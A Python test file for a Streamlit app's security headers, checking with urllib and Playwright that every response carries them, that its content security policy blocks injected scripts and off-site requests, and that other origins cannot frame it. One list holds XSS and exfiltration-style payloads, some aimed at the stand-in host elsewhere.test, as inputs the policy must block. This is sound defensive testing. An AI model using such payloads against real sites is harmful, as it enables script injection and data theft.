"""The security headers in a real browser and from the real server: every answer has them, and the policy holds."""

import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from explorer.ui.transport import headers
from tests.browser import drawn

SAID = """() => new Promise((said) => {
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => said(effectiveDirective), { once: true });
  const add = (kind, what) => document.body.append(Object.assign(document.createElement(kind), what));
  TRIED
})"""
TRIED = [  # what a page that was made to do it could try, and what forbids it
    ("add('script', { text: 'window.ran = 1' })", "script-src-elem"),
    ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')", "script-src-attr"),
    ("add('script', { src: 'https://elsewhere.test/x.js' })", "script-src-elem"),
    ("add('link', { rel: 'stylesheet', href: 'https://elsewhere.test/x.css' })", "style-src-elem"),
    ("new Image().src = 'https://elsewhere.test/x.png?stolen'", "img-src"),
    ("fetch('https://elsewhere.test/').catch(() => 0)", "connect-src"),
    ("new WebSocket('wss://elsewhere.test/')", "connect-src"),
    ("add('iframe', { src: 'https://elsewhere.test/' })", "frame-src"),
    ("add('object', { data: '/healthz' })", "object-src"),
    ("add('base', { href: 'https://elsewhere.test/' })", "base-uri"),
    ("add('form', { action: 'https://elsewhere.test/' }); document.body.lastChild.submit()", "form-action"),
]


@pytest.mark.parametrize(
    "path",
    ["/", "/edit?code=1", "/healthz", "/_stcore/health", "/app/static/inter.woff2", "/favicon.png", "/no/such/file.js"],
)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_every_answer_of_the_server_has_them(app_url: str, path: str, method: str) -> None:
    request = urllib.request.Request(app_url + path, method=method, data=b"" if method == "POST" else None)
    try:
        answer = urllib.request.urlopen(request)
    except urllib.error.HTTPError as refused:
        answer = refused
    with answer:
        for name, value in headers.HEADERS.items():
            assert answer.headers.get_all(name) == [value]


def test_figures_are_not_there_where_they_are_not_switched_on(app_url: str) -> None:
    """Streamlit answers any path that nobody has with its page."""
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(f"{app_url}/metrics")
    refused.value.close()
    assert refused.value.code == 404


def test_what_a_page_is_made_to_try_is_forbidden_and_nothing_leaves_it(browser, app_url: str) -> None:
    context = browser.new_context()  # here the browser may complain
    page: Page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    page.goto(app_url)
    drawn(page)
    for tried, directive in TRIED:
        assert page.evaluate(SAID.replace("TRIED", tried)) == directive, tried
    assert page.evaluate("() => window.ran") is None
    assert answered and not [url for url in answered if "elsewhere.test" in url]
    context.close()


@contextmanager
def served(body: str) -> Iterator[str]:
    """A page of another origin."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=partial(server.serve_forever, 0.05), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_no_page_of_others_shows_it_in_a_frame(browser, app_url: str) -> None:
    context: BrowserContext = browser.new_context()
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    with served(f"<iframe src='{app_url}'></iframe><p>loaded</p>") as url:
        with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
            page.goto(url)
        expect(page.get_by_text("loaded")).to_be_visible()
        assert "stApp" not in page.frames[-1].content()
    context.close()
